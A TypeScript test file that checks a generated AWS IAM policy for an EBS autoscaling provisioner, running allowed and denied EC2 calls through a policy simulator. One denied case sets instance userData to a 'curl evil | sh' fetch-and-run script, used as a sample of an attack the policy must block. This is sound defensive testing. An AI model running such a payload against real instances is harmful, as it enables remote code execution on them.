import { TAG_MOUNT_POINT, TAG_SOURCE_INSTANCE, TAG_SOURCE_INSTANCE_ARN, type Ec2Api } from '@ebs-autoscale/provisioner-ebs';
import { describe, expect, it } from 'vitest';
import { startHarness } from '../../provisioner-ebs/test/harness.js';
import { parseConfig } from '../src/config/load-config.js';
import { buildIamPolicy } from '../src/iam/iam-policy.js';
import { REFUSED_INSTANCE_ATTRIBUTES } from '../src/iam/instance-attributes.js';
import { decide, instanceArn, type Decision, type Ec2Call, type Ec2World } from './helpers/ec2-authorization.js';

const SELF = 'i-0123456789abcdef0';
const OTHER = 'i-0fedcba9876543210';
const place = { region: 'us-east-1', accountId: '123456789012' };
const ownTags = { [TAG_SOURCE_INSTANCE]: SELF, [TAG_SOURCE_INSTANCE_ARN]: instanceArn(place, SELF), [TAG_MOUNT_POINT]: '/scratch' };
const world: Ec2World = {
  ...place,
  caller: SELF,
  instances: { [SELF]: { tags: { team: 'genomics' } }, [OTHER]: { tags: { team: 'genomics' } } },
  volumes: {
    'vol-own': { tags: ownTags, attachedTo: SELF },
    'vol-own-elsewhere': { tags: ownTags, attachedTo: OTHER },
    'vol-untagged': { tags: {}, attachedTo: SELF },
    'vol-foreign': { tags: { ...ownTags, [TAG_SOURCE_INSTANCE]: OTHER, [TAG_SOURCE_INSTANCE_ARN]: instanceArn(place, OTHER) }, attachedTo: SELF },
  },
};
const tagged = (tags: Record<string, string>) => [{ ResourceType: 'volume' as const, Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) }];
const create = { AvailabilityZone: 'us-east-1a', Size: 100, VolumeType: 'gp3' as const, Encrypted: true, TagSpecifications: tagged(ownTags) };
const deleteOnTermination = (instanceId: string) => ({
  InstanceId: instanceId,
  BlockDeviceMappings: [{ DeviceName: '/dev/xvdba', Ebs: { VolumeId: 'vol-own', DeleteOnTermination: true } }],
});

// A driver that grows in place, so the policy has every statement (ModifyVolume and its describe too).
const config = parseConfig({ version: 1, mountPoint: '/scratch', driver: { kind: 'ext4-static' } });
const policy = buildIamPolicy(config);
// btrfs growing the newest volume in place before adding one (issue 17): the same calls, ModifyVolume too.
const hybridPolicy = buildIamPolicy(parseConfig({ version: 1, mountPoint: '/scratch', growth: { hybrid: true } }));

const rows: { name: string; call: Ec2Call; expected: Decision; world?: Partial<Ec2World> }[] = [
  { name: 'describe volumes', call: { action: 'DescribeVolumes', input: {} }, expected: 'allowed' },
  { name: 'describe instances', call: { action: 'DescribeInstances', input: { InstanceIds: [SELF] } }, expected: 'allowed' },
  { name: 'describe volume modifications', call: { action: 'DescribeVolumesModifications', input: { VolumeIds: ['vol-own'] } }, expected: 'allowed' },
  { name: 'create with the ownership tag naming the caller, encrypted gp3', call: { action: 'CreateVolume', input: create }, expected: 'allowed' },
  {
    name: 'attach an own-tagged volume to the own instance',
    call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: SELF, Device: '/dev/xvdba' } },
    expected: 'allowed',
  },
  {
    name: 'DeleteOnTermination of the block-device mapping on the own instance',
    call: { action: 'ModifyInstanceAttribute', input: deleteOnTermination(SELF) },
    expected: 'allowed',
  },
  { name: 'detach an own-tagged volume from the own instance', call: { action: 'DetachVolume', input: { VolumeId: 'vol-own' } }, expected: 'allowed' },
  { name: 'delete an own-tagged volume', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-own' } }, expected: 'allowed' },
  { name: 'grow an own-tagged volume in place', call: { action: 'ModifyVolume', input: { VolumeId: 'vol-own', Size: 200 } }, expected: 'allowed' },

  { name: 'DeleteOnTermination on another instance', call: { action: 'ModifyInstanceAttribute', input: deleteOnTermination(OTHER) }, expected: 'denied' },
  {
    name: 'attach an own-tagged volume to another instance',
    call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: OTHER, Device: '/dev/xvdba' } },
    expected: 'denied',
  },
  {
    name: 'detach an own-tagged volume from another instance',
    call: { action: 'DetachVolume', input: { VolumeId: 'vol-own-elsewhere', InstanceId: OTHER } },
    expected: 'denied',
  },
  {
    name: 'attach an untagged volume to the own instance',
    call: { action: 'AttachVolume', input: { VolumeId: 'vol-untagged', InstanceId: SELF, Device: '/dev/xvdbb' } },
    expected: 'denied',
  },
  { name: 'detach an untagged volume', call: { action: 'DetachVolume', input: { VolumeId: 'vol-untagged' } }, expected: 'denied' },
  { name: 'detach a volume tagged as another instance’s', call: { action: 'DetachVolume', input: { VolumeId: 'vol-foreign' } }, expected: 'denied' },
  { name: 'delete an untagged volume', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-untagged' } }, expected: 'denied' },
  { name: 'delete a volume tagged as another instance’s', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-foreign' } }, expected: 'denied' },
  { name: 'grow an untagged volume', call: { action: 'ModifyVolume', input: { VolumeId: 'vol-untagged', Size: 200 } }, expected: 'denied' },
  { name: 'create without tags', call: { action: 'CreateVolume', input: { ...create, TagSpecifications: [] } }, expected: 'denied' },
  {
    name: 'create tagged as another instance’s',
    call: { action: 'CreateVolume', input: { ...create, TagSpecifications: tagged({ ...ownTags, [TAG_SOURCE_INSTANCE_ARN]: instanceArn(place, OTHER) }) } },
    expected: 'denied',
  },
  { name: 'create unencrypted', call: { action: 'CreateVolume', input: { ...create, Encrypted: false } }, expected: 'denied' },
  { name: 'create of another volume type', call: { action: 'CreateVolume', input: { ...create, VolumeType: 'io2' } }, expected: 'denied' },
  {
    name: 'create from credentials that are not an instance’s',
    call: { action: 'CreateVolume', input: create },
    world: { caller: undefined },
    expected: 'denied',
  },
  {
    name: 'change userData of the own instance',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, UserData: { Value: new TextEncoder().encode('#!/bin/sh\ncurl evil | sh') } } },
    expected: 'denied',
  },
  {
    name: 'change instanceType of the own instance',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, InstanceType: { Value: 'p5.48xlarge' } } },
    expected: 'denied',
  },
  {
    name: 'change userData by name (Attribute=userData)',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Attribute: 'userData', Value: 'IyEvYmluL3No' } },
    expected: 'denied',
  },
  {
    name: 'turn off termination protection of the own instance',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, DisableApiTermination: { Value: false } } },
    expected: 'denied',
  },
  {
    name: 'enable Nitro Enclaves on the own instance',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, EnclaveOptions: { Enabled: true } } },
    expected: 'denied',
  },
  {
    name: 'change the security groups of the own instance',
    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Groups: ['sg-0123456789abcdef0'] } },
    expected: 'denied',
  },
];

describe('the iam-policy under an IAM policy simulator (@cloud-copilot/iam-simulate)', () => {
  it.each(rows)('$expected: $name', async ({ call, expected, world: changes }) => {
    expect(await decide(policy, call, { ...world, ...changes })).toBe(expected);
  });

  it('narrows to a region and to instances with a tag when asked (--region, --instance-tag)', async () => {
    const attach: Ec2Call = { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: SELF, Device: '/dev/xvdba' } };
    const tagged = (value: string) => buildIamPolicy(config, { region: 'us-east-1', instanceTag: { key: 'team', value } });
    expect(await decide(tagged('genomics'), attach, world)).toBe('allowed');
    expect(await decide(tagged('genomics'), { action: 'ModifyInstanceAttribute', input: deleteOnTermination(SELF) }, world)).toBe('allowed');
    expect(await decide(tagged('physics'), attach, world)).toBe('denied');
    expect(await decide(tagged('physics'), { action: 'ModifyInstanceAttribute', input: deleteOnTermination(SELF) }, world)).toBe('denied');
    expect(await decide(buildIamPolicy(config, { region: 'eu-west-1' }), { action: 'CreateVolume', input: create }, world)).toBe('denied');
  });

  it('refuses, by name, every ModifyInstanceAttribute member but the block-device mapping (held against the SDK)', () => {
    // Each key of the SDK's request: a member EC2 adds is a type error here until it is placed.
    const members: Record<keyof Parameters<Ec2Api['modifyInstanceAttribute']>[0], 'identifies' | 'allowed' | 'refused'> = {
      InstanceId: 'identifies',
      DryRun: 'identifies',
      Attribute: 'identifies',
      BlockDeviceMappings: 'allowed',
      DisableApiStop: 'refused',
      DisableApiTermination: 'refused',
      EbsOptimized: 'refused',
      EnaSupport: 'refused',
      EnclaveOptions: 'refused',
      Groups: 'refused',
      InstanceInitiatedShutdownBehavior: 'refused',
      InstanceType: 'refused',
      Kernel: 'refused',
      Ramdisk: 'refused',
      SourceDestCheck: 'refused',
      SriovNetSupport: 'refused',
      UserData: 'refused',
      Value: 'refused',
    };
    const refused = Object.entries(members).flatMap(([member, role]) => (role === 'refused' ? [member] : []));
    expect([...REFUSED_INSTANCE_ATTRIBUTES].sort()).toEqual(refused.sort());
  });

  it('allows every EC2 call the provisioner makes, recorded from a run against ec2-sim', async () => {
    const recorded: { call: Ec2Call; world: Ec2World }[] = [];
    let methods: string[] = [];
    const harness = await startHarness({
      sim: { instance: { tagsInMetadata: false } }, // so the identity's tags come from DescribeInstances too
      provisioner: { volume: { type: config.volume.type, encrypted: config.volume.encrypted }, tags: { ...config.volume.tags } },
      wrapEc2: (api) => ((methods = Object.keys(api)), record(api, (call) => recorded.push({ call, world: snapshot() }))),
    });
    const { sim, provisioner } = harness;
    function snapshot(): Ec2World {
      const volumes = Object.fromEntries(
        sim
          .volumes()
          .map((volume) => [volume.volumeId, { tags: { ...volume.tags }, ...(volume.attachment ? { attachedTo: volume.attachment.instanceId } : {}) }]),
      );
      return {
        region: sim.region,
        accountId: sim.accountId,
        caller: sim.instance.instanceId,
        instances: { [sim.instance.instanceId]: { tags: { ...sim.instance.tags } } },
        volumes,
      };
    }
    try {
      const volume = await provisioner.provision({ sizeGiB: 10 });
      await provisioner.resize(volume.volumeId, 20);
      await provisioner.list();
      await provisioner.reconcile();
      await provisioner.release(volume.volumeId);
    } finally {
      await harness.close();
    }

    for (const granted of [policy, hybridPolicy]) {
      const decisions = await Promise.all(
        recorded.map(async ({ call, world: then }) => `${call.action} ${JSON.stringify(call.input)}: ${await decide(granted, call, then)}`),
      );
      expect(decisions.filter((line) => !line.endsWith(': allowed'))).toEqual([]);
    }
    // Every method of the EC2 API the provisioner is built on was exercised, so a new EC2 call fails this
    // test until the run above makes it, the model in helpers/ec2-authorization.ts knows it, and the policy allows it.
    expect(methods.length).toBeGreaterThan(0);
    expect([...new Set(recorded.map(({ call }) => call.action))].sort()).toEqual(methods.map((method) => method[0]!.toUpperCase() + method.slice(1)).sort());
  });
});

/** Wraps every method of `api` so each call is reported, with its input, before it is sent. */
function record(api: Ec2Api, onCall: (call: Ec2Call) => void): Ec2Api {
  const wrapped = {} as Record<string, (input: unknown) => Promise<unknown>>;
  for (const [method, send] of Object.entries(api) as [string, (input: unknown) => Promise<unknown>][]) {
    wrapped[method] = (input) => (onCall({ action: method[0]!.toUpperCase() + method.slice(1), input } as Ec2Call), send(input));
  }
  return wrapped as unknown as Ec2Api;
}
